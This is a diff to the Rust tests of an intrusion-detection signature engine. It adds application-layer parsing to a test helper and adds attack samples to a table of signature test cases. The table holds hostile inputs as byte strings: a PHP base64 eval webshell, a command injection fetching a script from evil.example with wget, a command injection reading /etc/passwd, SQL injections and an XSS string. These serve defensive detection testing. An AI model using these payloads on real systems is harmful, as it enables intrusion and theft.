@@ -77,6 +77,12 @@ fn tcp(sport: u16, dport: u16, len: usize) -> Decoded {
 }
 
 fn ids(set: &SignatureSet, d: &Decoded, payload: &[u8]) -> Vec<u64> {
+    // The application layer the decoder would have parsed from this payload.
+    let mut d = d.clone();
+    if d.app.is_none() && matches!(d.transport, Transport::Tcp(_)) {
+        d.app = nsm_tui::engine::applayer::parse_tcp(payload);
+    }
+    let d = &d;
     let fast = set.matches(d, payload);
     let slow = set.matches_reference(d, payload);
     assert_eq!(
@@ -125,6 +131,10 @@ fn shipped_signatures_fire_on_attacks_and_not_on_ordinary_traffic() {
         ("webshell", b"<?php eval(base64_decode($_POST['x'])); ?>", &[1000070]),
         ("sqlmap", b"GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n", &[1000081]),
         ("wget chain", b"POST /ping HTTP/1.1\r\n\r\nip=127.0.0.1; wget http://evil.example/x.sh", &[1000022]),
+        ("body union", b"POST /login HTTP/1.1\r\nContent-Length: 30\r\n\r\nid=1%27+UNION+SELECT+1%2C2--+", &[1000201]),
+        ("body passwd", b"POST /ping HTTP/1.1\r\n\r\nhost=x%3Bcat+%2Fetc%2Fpasswd", &[1000020, 1000225, 1000242]),
+        ("cookie tautology", b"GET / HTTP/1.1\r\nCookie: id=1' or 'a'='a\r\n\r\n", &[1000102]),
+        ("referer xss", b"GET / HTTP/1.1\r\nReferer: http://x/?q=<script>alert(1)</script>\r\n\r\n", &[1000150, 1000153]),
         ("ordinary page", b"GET /index.html?q=select+a+product HTTP/1.1\r\nHost: shop\r\nUser-Agent: Mozilla/5.0\r\n\r\n", &[]),
         ("html response", b"HTTP/1.1 200 OK\r\n\r\n<script>var x = function() { a(); };</script>", &[]),
         ("smtp", b"EHLO mail.example.com\r\n", &[]),
